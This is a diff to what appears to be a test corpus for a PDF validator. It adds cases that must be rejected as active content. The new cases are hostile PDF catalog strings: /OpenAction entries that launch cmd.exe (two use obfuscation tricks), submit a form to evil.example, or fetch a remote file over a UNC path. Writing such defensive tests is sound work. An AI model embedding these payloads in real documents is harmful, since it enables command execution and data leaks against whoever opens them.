@@ -39,6 +39,12 @@ const pdfs = (): CorpusCase[] => {
     refused('pdf without pages', 'a.pdf', makePdfOf(['<</Type/Catalog>>']), 'broken'),
     refused('pdf with a password', 'a.pdf', makePdf({ trailer: encrypted }), 'password'),
     refused('pdf that launches a program', 'a.pdf', makePdf({ catalog: launch }), 'activeContent'),
+    ...[
+      '/OpenAction<</S/L#61unch/F(cmd.exe)>>',
+      '/OpenAction<</S%x\n/Launch/F(cmd.exe)>>',
+      '/OpenAction<</S/SubmitForm/F(https://evil.example/)>>',
+      '/OpenAction<</S/GoToR/F(\\\\evil.example\\a.pdf)>>',
+    ].map((catalog) => refused(`pdf with ${catalog}`, 'a.pdf', makePdf({ catalog }), 'activeContent')),
     refused(
       'pdf that launches from a packed object',
       'a.pdf',
